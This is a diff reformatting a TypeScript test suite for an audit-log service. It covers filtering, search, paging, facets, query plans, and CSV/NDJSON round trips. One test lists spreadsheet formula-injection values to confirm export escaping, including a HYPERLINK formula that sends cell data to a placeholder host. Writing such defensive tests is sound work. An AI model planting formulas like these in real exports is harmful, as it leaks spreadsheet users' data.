@@ -27,17 +27,27 @@ type E = ReturnType<typeof makeEvent> & { date: string; action: Record<string, a
 const expected = (pred: (e: E) => boolean) => (all as E[]).filter(pred).map((e) => e.event_id as string);
 const dateDesc = { field: 'date', dir: 'desc' } as const;
 
-const everything = (filters: AuditFilters, sort: AuditSort = dateDesc, limit = 37): string[] => walkPages(service, filters, sort, limit);
+const everything = (filters: AuditFilters, sort: AuditSort = dateDesc, limit = 37): string[] =>
+  walkPages(service, filters, sort, limit);
 
 /** `events` imported (NDJSON) into a new cache, exported from it to CSV, and that CSV imported into another new cache. */
-async function csvRoundTrip(name: string, events: Record<string, unknown>[], check: (o: { src: AuditService; back: AuditService; text: string }) => void): Promise<void> {
+async function csvRoundTrip(
+  name: string,
+  events: Record<string, unknown>[],
+  check: (o: { src: AuditService; back: AuditService; text: string }) => void,
+): Promise<void> {
   const src = openService(join(tmp.dir, `${name}.db`));
   const back = openService(join(tmp.dir, `${name}-back.db`));
   try {
     const file = join(tmp.dir, `${name}.ndjson`);
     writeFileSync(file, events.map((e) => JSON.stringify(e)).join('\n') + '\n');
     expect((await src.import([file]))[0]).toMatchObject({ accepted: events.length, rejected: 0 });
-    const out = await src.export({ format: 'csv', path: join(tmp.dir, `${name}.csv`), filters: {}, sort: { field: 'date', dir: 'asc' } });
+    const out = await src.export({
+      format: 'csv',
+      path: join(tmp.dir, `${name}.csv`),
+      filters: {},
+      sort: { field: 'date', dir: 'asc' },
+    });
     expect((await back.import([out.path]))[0]).toMatchObject({ accepted: events.length, rejected: 0 });
     check({ src, back, text: readFileSync(out.path, 'utf8') });
   } finally {
@@ -65,24 +75,37 @@ describe('query: the API filters, offline', () => {
   });
 
   it('filters by each dimension and by combinations, like the API would', () => {
-    const same = (f: AuditFilters, pred: (e: E) => boolean) => expect(new Set(everything(f))).toEqual(new Set(expected(pred)));
+    const same = (f: AuditFilters, pred: (e: E) => boolean) =>
+      expect(new Set(everything(f))).toEqual(new Set(expected(pred)));
     same({ memberIds: [2, 3] }, (e) => [2, 3].includes(e.member.user_id));
     same({ groupIds: [102] }, (e) => e.action.data.group_id === 102);
     same({ folderRefs: ['fld_1', 'fld_4'] }, (e) => ['fld_1', 'fld_4'].includes(e.action.data.folder_reference));
     same({ eventTypes: ['project.folder.shared'] }, (e) => e.action.event_type === 'project.folder.shared');
     same({ requestId: 'req_7' }, (e) => e.action.request_id === 'req_7');
     same({ from: '2026-03-02', to: '2026-03-03' }, (e) => e.date >= '2026-03-02' && e.date < '2026-03-04');
-    same({ from: '2026-03-02T05:00:00Z', to: '2026-03-02T06:00:00Z' }, (e) => e.date >= '2026-03-02T05:00:00' && e.date <= '2026-03-02T06:00:00.000Z');
-    same({ memberIds: [1], eventTypes: ['team.member.role_changed', 'creation.image.generated'], groupIds: [101, 103] },
-      (e) => e.member.user_id === 1 && ['team.member.role_changed', 'creation.image.generated'].includes(e.action.event_type) && [101, 103].includes(e.action.data.group_id));
+    same(
+      { from: '2026-03-02T05:00:00Z', to: '2026-03-02T06:00:00Z' },
+      (e) => e.date >= '2026-03-02T05:00:00' && e.date <= '2026-03-02T06:00:00.000Z',
+    );
+    same(
+      { memberIds: [1], eventTypes: ['team.member.role_changed', 'creation.image.generated'], groupIds: [101, 103] },
+      (e) =>
+        e.member.user_id === 1 &&
+        ['team.member.role_changed', 'creation.image.generated'].includes(e.action.event_type) &&
+        [101, 103].includes(e.action.data.group_id),
+    );
   });
 
   it('a word the tokenizer cuts (slash, emoji, combining mark) is searched as its pieces, never as an error', async () => {
     const own = openService(join(tmp.dir, 'odd.db'));
     try {
       const odd = [
-        makeEvent(1, { action: { event_type: 'odd.event.one', request_id: 'req_odd', data: { folder_name: 'Brand/2026 café' } } }),
-        makeEvent(2, { action: { event_type: 'odd.event.two', request_id: 'req_odd', data: { note: 'k\u0332z launch😀day' } } }),
+        makeEvent(1, {
+          action: { event_type: 'odd.event.one', request_id: 'req_odd', data: { folder_name: 'Brand/2026 café' } },
+        }),
+        makeEvent(2, {
+          action: { event_type: 'odd.event.two', request_id: 'req_odd', data: { note: 'k\u0332z launch😀day' } },
+        }),
       ];
       const [r] = await own.import([tmp.file('odd.ndjson', odd.map((e) => JSON.stringify(e)).join('\n'))]);
       expect(r.accepted).toBe(2);
@@ -100,15 +123,26 @@ describe('query: the API filters, offline', () => {
   });
 
   it('searches the payload text (FTS5), ANDs words and keeps prefixes', () => {
-    expect(new Set(everything({ search: 'denied' }))).toEqual(new Set(expected((e) => e.action.data.outcome === 'denied')));
-    expect(new Set(everything({ search: 'viewer failed' }))).toEqual(new Set(expected((e) => e.action.new_state.role === 'viewer' && e.action.status === 'failed')));
-    expect(new Set(everything({ search: 'user3@example.test' }))).toEqual(new Set(expected((e) => e.member.email === 'user3@example.test')));
+    expect(new Set(everything({ search: 'denied' }))).toEqual(
+      new Set(expected((e) => e.action.data.outcome === 'denied')),
+    );
+    expect(new Set(everything({ search: 'viewer failed' }))).toEqual(
+      new Set(expected((e) => e.action.new_state.role === 'viewer' && e.action.status === 'failed')),
+    );
+    expect(new Set(everything({ search: 'user3@example.test' }))).toEqual(
+      new Set(expected((e) => e.member.email === 'user3@example.test')),
+    );
     expect(everything({ search: 'vie*' }).length).toBe(expected((e) => e.action.new_state.role === 'viewer').length);
     expect(everything({ search: 'nothing-like-this' })).toEqual([]);
   });
 
   it('pages with the keyset cursor in every sort order, the same rows as one big offset page', () => {
-    for (const sort of [dateDesc, { field: 'date', dir: 'asc' }, { field: 'event_type', dir: 'asc' }, { field: 'member', dir: 'desc' }] as AuditSort[]) {
+    for (const sort of [
+      dateDesc,
+      { field: 'date', dir: 'asc' },
+      { field: 'event_type', dir: 'asc' },
+      { field: 'member', dir: 'desc' },
+    ] as AuditSort[]) {
       const keyset = everything({}, sort);
       const offset = service.query({ filters: {}, sort, limit: 1000 }).rows.map((r) => r.eventId);
       expect(keyset).toEqual(offset);
@@ -116,22 +150,34 @@ describe('query: the API filters, offline', () => {
     }
     const dates = service.query({ filters: {}, sort: dateDesc, limit: 50, offset: 100 }).rows.map((r) => r.date);
     expect([...dates].sort().reverse()).toEqual(dates);
-    expect(service.query({ filters: { eventTypes: ['project.folder.shared'] }, sort: dateDesc, limit: 1, withTotal: true }).total).toBe(COUNT / 4);
+    expect(
+      service.query({ filters: { eventTypes: ['project.folder.shared'] }, sort: dateDesc, limit: 1, withTotal: true })
+        .total,
+    ).toBe(COUNT / 4);
   });
 
   it('rejects a cursor of another sort order', () => {
     const next = service.query({ filters: {}, sort: dateDesc, limit: 5 }).next!;
-    expect(() => service.query({ filters: {}, sort: { field: 'member', dir: 'desc' }, limit: 5, after: next })).toThrow(/another sort order/);
-    expect(() => service.query({ filters: {}, sort: dateDesc, limit: 5, after: 'garbage!' })).toThrow(/not valid|another sort/);
+    expect(() => service.query({ filters: {}, sort: { field: 'member', dir: 'desc' }, limit: 5, after: next })).toThrow(
+      /another sort order/,
+    );
+    expect(() => service.query({ filters: {}, sort: dateDesc, limit: 5, after: 'garbage!' })).toThrow(
+      /not valid|another sort/,
+    );
   });
 });
 
 describe('query: facets, timeline, detail', () => {
   it('counts by event type and by member, each ignoring its own filter', () => {
     const f = service.facets({ eventTypes: ['project.folder.shared'], memberIds: [2] });
-    expect(f.eventTypes.map((x) => x.count).reduce((a, b) => a + b)).toBe(expected((e) => e.member.user_id === 2).length);
+    expect(f.eventTypes.map((x) => x.count).reduce((a, b) => a + b)).toBe(
+      expected((e) => e.member.user_id === 2).length,
+    );
     const m2 = f.members.find((m) => m.value === '2')!;
-    expect(m2).toMatchObject({ label: 'user2@example.test', count: expected((e) => e.member.user_id === 2 && e.action.event_type === 'project.folder.shared').length });
+    expect(m2).toMatchObject({
+      label: 'user2@example.test',
+      count: expected((e) => e.member.user_id === 2 && e.action.event_type === 'project.folder.shared').length,
+    });
   });
 
   it('says how many values each facet has in all when it lists only the top ones, under the other filters', () => {
@@ -142,10 +188,16 @@ describe('query: facets, timeline, detail', () => {
     // Member 2's events (i % 6 === 1, so odd i) have two of the four types.
     const narrowed = service.facets({ memberIds: [2], eventTypes: ['project.folder.shared'] }, 1);
     expect(narrowed.eventTypesDistinct).toBe(2);
-    const typeMembers = new Set((all as E[]).filter((e) => e.action.event_type === 'project.folder.shared').map((e) => e.member.user_id));
+    const typeMembers = new Set(
+      (all as E[]).filter((e) => e.action.event_type === 'project.folder.shared').map((e) => e.member.user_id),
+    );
     expect(narrowed.membersDistinct).toBe(typeMembers.size);
     expect(typeMembers.size).toBeLessThan(6);
-    expect(service.facets({ requestId: 'no-such-request' }, 2)).toMatchObject({ eventTypes: [], eventTypesDistinct: 0, membersDistinct: 0 });
+    expect(service.facets({ requestId: 'no-such-request' }, 2)).toMatchObject({
+      eventTypes: [],
+      eventTypesDistinct: 0,
+      membersDistinct: 0,
+    });
   });
 
   it('labels a member with the e-mail of their latest event, and actors without a user id together', async () => {
@@ -192,15 +244,25 @@ describe('query: facets, timeline, detail', () => {
       expect(ids({ noUserIdEmails: ['ci-key@example.test'] })).toEqual(new Set(['evt_3', 'evt_5']));
       expect(ids({ noUserIdEmails: ['ci-key@example.test', ''] })).toEqual(new Set(['evt_3', 'evt_4', 'evt_5']));
       expect(ids({ noUserIdEmails: ['deploy-key@example.test'], memberIds: [8] })).toEqual(new Set(['evt_2', 'evt_6']));
-      expect(ids({ noUserIdEmails: ['ci-key@example.test'], search: 'ci-key@example.test' })).toEqual(new Set(['evt_3', 'evt_5']));
-      expect(other.query({ filters: { noUserIdEmails: ['ci-key@example.test'] }, sort: dateDesc, limit: 1, withTotal: true }).total).toBe(2);
+      expect(ids({ noUserIdEmails: ['ci-key@example.test'], search: 'ci-key@example.test' })).toEqual(
+        new Set(['evt_3', 'evt_5']),
+      );
+      expect(
+        other.query({ filters: { noUserIdEmails: ['ci-key@example.test'] }, sort: dateDesc, limit: 1, withTotal: true })
+          .total,
+      ).toBe(2);
       expect(other.timeline({ noUserIdEmails: [''] }, 'day').points.reduce((n, p) => n + p.count, 0)).toBe(1);
       // One entry per e-mail, labelled by it and typed; its own choice does not narrow the list.
       const f = other.facets({ noUserIdEmails: ['deploy-key@example.test'] }, 10);
       expect(f.members).toEqual([
         { value: 'no-user-id:ci-key@example.test', label: 'ci-key@example.test', count: 2, actorType: 'api_key' },
         { value: 'no-user-id:', label: null, count: 1, actorType: 'system' },
-        { value: 'no-user-id:deploy-key@example.test', label: 'deploy-key@example.test', count: 1, actorType: 'api_key' },
+        {
+          value: 'no-user-id:deploy-key@example.test',
+          label: 'deploy-key@example.test',
+          count: 1,
+          actorType: 'api_key',
+        },
         { value: '7', label: 'seven@example.test', count: 1 },
         { value: '8', label: 'eight@example.test', count: 1 },
         { value: '9', label: 'ci-key@example.test', count: 1 },
@@ -208,29 +270,49 @@ describe('query: facets, timeline, detail', () => {
       expect(f.membersDistinct).toBe(6);
       expect(f.eventTypes.reduce((n, t) => n + t.count, 0)).toBe(1);
       const top = other.facets({}, 2);
-      expect([top.members.map((m) => m.value), top.membersDistinct]).toEqual([['no-user-id:ci-key@example.test', 'no-user-id:'], 6]);
-      expect(auditCommands['audit.query'].request.safeParse({ filters: { noUserId: true, noUserIdEmails: ['a@b.test', ''] } }).success).toBe(true);
+      expect([top.members.map((m) => m.value), top.membersDistinct]).toEqual([
+        ['no-user-id:ci-key@example.test', 'no-user-id:'],
+        6,
+      ]);
+      expect(
+        auditCommands['audit.query'].request.safeParse({
+          filters: { noUserId: true, noUserIdEmails: ['a@b.test', ''] },
+        }).success,
+      ).toBe(true);
     } finally {
       await other.close();
     }
   });
 
   it('picks and counts actors without a user id by e-mail through an index, not a scan of the events', () => {
-    const plan = (sql: string, params: unknown[] = []) => (service.store.db.prepare(`EXPLAIN QUERY PLAN ${sql}`).all(...params) as { detail: string }[]).map((r) => r.detail).join('; ');
+    const plan = (sql: string, params: unknown[] = []) =>
+      (service.store.db.prepare(`EXPLAIN QUERY PLAN ${sql}`).all(...params) as { detail: string }[])
+        .map((r) => r.detail)
+        .join('; ');
     const page = (f: AuditFilters) => {
       const w = buildWhere(f);
       return plan(`SELECT seq FROM events ${w.sql} ORDER BY ts DESC, seq DESC LIMIT 100`, w.params);
     };
     // One e-mail: its events alone, newest first, straight from the index.
-    expect(page({ noUserIdEmails: ['ci-key@example.test'] })).toBe('SEARCH events USING COVERING INDEX events_noid_email_ts (member_id=? AND member_email=?)');
-    for (const f of [{ noUserIdEmails: ['ci-key@example.test', ''], from: '2026-03-02' }, { noUserIdEmails: ['ci-key@example.test'], memberIds: [2, 3] }]) {
+    expect(page({ noUserIdEmails: ['ci-key@example.test'] })).toBe(
+      'SEARCH events USING COVERING INDEX events_noid_email_ts (member_id=? AND member_email=?)',
+    );
+    for (const f of [
+      { noUserIdEmails: ['ci-key@example.test', ''], from: '2026-03-02' },
+      { noUserIdEmails: ['ci-key@example.test'], memberIds: [2, 3] },
+    ]) {
       // The planner may seek each choice or walk the date index to the page's end; never read the whole table.
       expect(page(f), JSON.stringify(f)).toMatch(/(SEARCH|SCAN) events USING (COVERING )?INDEX/);
       expect(page(f), JSON.stringify(f)).not.toMatch(/SCAN events(?! USING)/);
     }
     // The facet's count per e-mail reads that index alone, already in e-mail order.
-    expect(plan('SELECT member_email AS v, count(*) AS n, count(*) OVER () AS d FROM events WHERE member_id IS NULL GROUP BY member_email ORDER BY n DESC, v LIMIT 50'))
-      .toMatch(/SEARCH events USING COVERING INDEX events_noid_email_ts \(member_id=\?\); SCAN \(subquery-\d\); USE TEMP B-TREE FOR ORDER BY$/);
+    expect(
+      plan(
+        'SELECT member_email AS v, count(*) AS n, count(*) OVER () AS d FROM events WHERE member_id IS NULL GROUP BY member_email ORDER BY n DESC, v LIMIT 50',
+      ),
+    ).toMatch(
+      /SEARCH events USING COVERING INDEX events_noid_email_ts \(member_id=\?\); SCAN \(subquery-\d\); USE TEMP B-TREE FOR ORDER BY$/,
+    );
   });
 
   it('buckets events per hour and per day', () => {
@@ -238,7 +320,9 @@ describe('query: facets, timeline, detail', () => {
     expect(hours.points.reduce((a, p) => a + p.count, 0)).toBe(COUNT);
     expect(hours.points[0]).toEqual({ start: '2026-03-01T00:00:00.000Z', count: 6 });
     const days = service.timeline({ eventTypes: ['team.member.role_changed'] }, 'day');
-    expect(days.points.map((p) => p.start)).toEqual(['01', '02', '03', '04', '05'].map((d) => `2026-03-${d}T00:00:00.000Z`));
+    expect(days.points.map((p) => p.start)).toEqual(
+      ['01', '02', '03', '04', '05'].map((d) => `2026-03-${d}T00:00:00.000Z`),
+    );
     expect(days.points.reduce((a, p) => a + p.count, 0)).toBe(COUNT / 4);
   });
 
@@ -262,7 +346,12 @@ describe('export and the command handlers', () => {
     const want = expected((e) => e.member.user_id === 4);
     expect(nd.rows).toBe(want.length);
     expect(cs.rows).toBe(want.length);
-    expect(readFileSync(nd.path, 'utf8').trim().split('\n').map((l) => JSON.parse(l).event_id)).toEqual(everything(filters));
+    expect(
+      readFileSync(nd.path, 'utf8')
+        .trim()
+        .split('\n')
+        .map((l) => JSON.parse(l).event_id),
+    ).toEqual(everything(filters));
     const other = openService(join(tmp.dir, 'roundtrip.db'));
     try {
       const [r] = await other.import([cs.path]);
@@ -270,15 +359,32 @@ describe('export and the command handlers', () => {
       // CSV has no null: an empty cell comes back as an absent field, everything else is equal.
       const back = other.event('evt_3')!;
       expect(back.row).toEqual(service.event('evt_3')!.row);
-      expect(back.event.action).toEqual(Object.fromEntries(Object.entries(all[3].action as object).filter(([, v]) => v !== null)));
+      expect(back.event.action).toEqual(
+        Object.fromEntries(Object.entries(all[3].action as object).filter(([, v]) => v !== null)),
+      );
     } finally {
       await other.close();
     }
   });
 
   it('a value a spreadsheet would run as a formula (=, +, -, @, tab, CR first) is exported with a leading apostrophe, and the CSV imports back to the same events', async () => {
-    const risky = ['=HYPERLINK("http://x.test/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tcmd', '\r=x', "'=already quoted", "'plain apostrophe", 'plain'];
-    const events = risky.map((v, i) => makeEvent(900 + i, { category: v, action: { ...(makeEvent(900 + i).action as object), project_name: v, data: { note: v } } }));
+    const risky = [
+      '=HYPERLINK("http://x.test/?"&A1,"open")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1:A2)',
+      '\tcmd',
+      '\r=x',
+      "'=already quoted",
+      "'plain apostrophe",
+      'plain',
+    ];
+    const events = risky.map((v, i) =>
+      makeEvent(900 + i, {
+        category: v,
+        action: { ...(makeEvent(900 + i).action as object), project_name: v, data: { note: v } },
+      }),
+    );
     await csvRoundTrip('formulas', events, ({ back, text }) => {
       // No cell of the file begins with a formula's first character (a quoted cell's content counted too).
       for (const cell of text.split(/,|\r\n/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
@@ -288,7 +394,9 @@ describe('export and the command handlers', () => {
       for (const e of events) {
         const got = back.event(e.event_id as string)!.event;
         expect(got.category).toBe(e.category);
-        expect((got.action as Record<string, unknown>).project_name).toBe((e.action as Record<string, unknown>).project_name);
+        expect((got.action as Record<string, unknown>).project_name).toBe(
+          (e.action as Record<string, unknown>).project_name,
+        );
         expect((got.action as Record<string, unknown>).data).toEqual((e.action as Record<string, unknown>).data);
       }
     });
@@ -303,33 +411,76 @@ describe('export and the command handlers', () => {
       // "" in every flattened text column, and in a JSON cell's payload.
       makeEvent(950, {
         category: '',
-        action: { ...action, verb: '', status: '', resource_id: '', request_id: '', correlation_id: '', project_name: '', folder_name: '', data: { note: '' }, context: {} },
+        action: {
+          ...action,
+          verb: '',
+          status: '',
+          resource_id: '',
+          request_id: '',
+          correlation_id: '',
+          project_name: '',
+          folder_name: '',
+          data: { note: '' },
+          context: {},
+        },
         member: { type: '', user_id: 3, email: '' },
         source: { project: '', platform: '', referer: '' },
       }),
       // null in every nullable column.
       makeEvent(951, {
         category: null,
-        action: { ...action, resource_id: null, request_id: null, correlation_id: null, old_state: null, new_state: null, duration_ms: null, context: null, project_name: null, folder_name: null },
+        action: {
+          ...action,
+          resource_id: null,
+          request_id: null,
+          correlation_id: null,
+          old_state: null,
+          new_state: null,
+          duration_ms: null,
+          context: null,
+          project_name: null,
+          folder_name: null,
+        },
         member: { ...member, user_id: null, email: null },
         source: { project: null, platform: null, referer: null },
       }),
       // Fields left out, next to "" ones.
-      makeEvent(952, { action: { ...actionWithoutFolder, correlation_id: 'cor_9', project_name: '' }, source: { platform: 'web' } }),
+      makeEvent(952, {
+        action: { ...actionWithoutFolder, correlation_id: 'cor_9', project_name: '' },
+        source: { platform: 'web' },
+      }),
     ];
     await csvRoundTrip('empty', events, ({ src, back, text }) => {
       const [, first] = text.split('\r\n');
       // Quoted empty cells for "", the JSON cell's "" inside its JSON text, as before.
-      expect(first).toBe(`evt_950,${base.date},"",${action.event_type},"","","","","",${action.duration_ms},"","","{""note"":""""}",`
-        + '"{""role"":""member""}","{""role"":""admin""}",{},"",3,"","","",""');
+      expect(first).toBe(
+        `evt_950,${base.date},"",${action.event_type},"","","","","",${action.duration_ms},"","","{""note"":""""}",` +
+          '"{""role"":""member""}","{""role"":""admin""}",{},"",3,"","","",""',
+      );
 
       // "" comes back as "", everything else as it was.
       expect(back.event('evt_950')!.event).toEqual(events[0]);
       expect(back.event('evt_950')!.row).toEqual(src.event('evt_950')!.row);
       expect(back.event('evt_952')!.event).toEqual(events[2]);
       // CSV has one way to write "no value": null and a missing field are both an unquoted empty cell, and come back missing.
-      const { resource_id: _r, request_id: _q, correlation_id: _c, old_state: _o, new_state: _n, duration_ms: _d, context: _x, project_name: _p, folder_name: _f, ...nonNullAction } = events[1].action as Record<string, unknown>;
-      expect(back.event('evt_951')!.event).toEqual({ event_id: 'evt_951', date: events[1].date, action: nonNullAction, member: { type: 'user' } });
+      const {
+        resource_id: _r,
+        request_id: _q,
+        correlation_id: _c,
+        old_state: _o,
+        new_state: _n,
+        duration_ms: _d,
+        context: _x,
+        project_name: _p,
+        folder_name: _f,
+        ...nonNullAction
+      } = events[1].action as Record<string, unknown>;
+      expect(back.event('evt_951')!.event).toEqual({
+        event_id: 'evt_951',
+        date: events[1].date,
+        action: nonNullAction,
+        member: { type: 'user' },
+      });
       expect(back.event('evt_951')!.row).toEqual(src.event('evt_951')!.row);
     });
   });
